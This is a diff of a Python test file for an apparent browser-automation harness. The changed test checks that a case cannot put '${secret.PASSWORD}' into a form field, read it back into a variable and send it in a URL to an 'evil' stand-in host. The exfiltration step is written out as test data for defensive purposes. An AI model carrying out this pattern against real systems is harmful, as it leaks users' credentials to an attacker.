@@ -178,15 +178,12 @@ async def test_a_case_cannot_find_it_out_by_comparing(
     assert "/begins-with-o" not in [path for path, _ in site.heard]
 
 
-@pytest.mark.parametrize("read", [{"value": "read"}, {"value": "read", "match": "^(?:open ses)"}])
-async def test_a_case_cannot_read_it_back_and_send_it(
-    harness: ExecutionHarness, site: Site, evil: Evil, read: dict[str, str]
-) -> None:
+async def test_a_case_cannot_read_it_back_and_send_it(harness: ExecutionHarness, site: Site, evil: Evil) -> None:
     """From the field of a named host into a variable; the operator's own runs may."""
     steps = (
         goto("/form"),
         on("fill", "#f", value="${secret.PASSWORD}"),
-        on("extract", "#f", **read),
+        on("extract", "#f", value="read"),
         goto(evil.url + "/?${var.read}"),
     )
     written = case(*steps, base_url=site.url)
